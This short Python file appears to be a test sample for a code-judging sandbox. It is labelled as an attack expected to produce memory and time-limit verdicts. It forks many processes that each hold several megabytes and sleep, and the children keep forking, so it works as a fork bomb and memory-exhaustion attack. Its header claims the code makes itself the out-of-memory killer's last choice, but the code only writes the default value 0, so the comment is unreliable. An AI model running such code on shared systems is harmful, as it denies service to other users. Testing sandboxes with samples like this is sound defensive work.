# attack: makes itself the last choice of the out-of-memory killer, then takes memory in many small processes
# verdict: MLE TLE
import os
import time

try:
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("0")
except OSError:
    pass
for _ in range(20):
    if os.fork() == 0:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("0")
        data = os.urandom(7_000_000)
        time.sleep(60)
time.sleep(60)
